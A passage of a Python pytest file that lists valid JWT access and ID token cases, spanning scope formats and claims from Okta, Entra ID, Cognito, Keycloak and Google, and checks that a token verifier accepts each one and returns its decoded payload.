    Good("a subject with a blank in it", KEY.token(claims(sub="CN=Zoe Doe"))),
    Good("scopes in a list (Okta)", KEY.token(claims(scope=None, scp=["openid", "calls"]))),
    Good("scopes in scp (Entra ID)", KEY.token(claims(scope=None, scp="openid calls"))),
    Good(
        "no scope, marked by its header (RFC 9068)",
        KEY.token(claims(scope=None), {"typ": "at+jwt"}),
        {"required_scopes": frozenset()},
    ),
    Good(
        "no scope, marked by token_use (Cognito)",
        KEY.token(claims(scope=None, token_use="access")),
        {"required_scopes": frozenset()},
    ),
    Good(
        "no scope, marked by typ (Keycloak)",
        KEY.token(claims(scope=None, typ="Bearer")),
        {"required_scopes": frozenset()},
    ),
    Good(
        "the claims that are required",
        KEY.token(claims(azp="app", tid="7")),
        {"required_claims": {"azp": "app", "tid": "7"}},
    ),
    Good("an ID token", KEY.token(IDENTITY), ID_TOKENS),
    Good("an ID token with its marks", KEY.token(identity(token_use="id", typ="ID")), ID_TOKENS),
    Good(
        "an ID token of a backend, without a nonce",
        KEY.token({name: IDENTITY[name] for name in ("iss", "aud", "sub", "exp")}),
        ID_TOKENS,
    ),
    Good(
        "an ID token for several, issued to us",
        KEY.token(identity(aud=["other", AUDIENCE], azp=AUDIENCE)),
        ID_TOKENS,
    ),
    Good("an ID token for us, issued to the app (Google)", KEY.token(identity(azp="app")), ID_TOKENS),
]


@pytest.mark.parametrize("good", [pytest.param(each, id=each.why) for each in GOOD])
def test_a_good_token_proves_who_sends_it(good: Good) -> None:
    payload = base64.urlsafe_b64decode(good.token.split(".")[1] + "==")
    assert verifier(*good.keys, **good.rules)(good.token) == json.loads(payload)
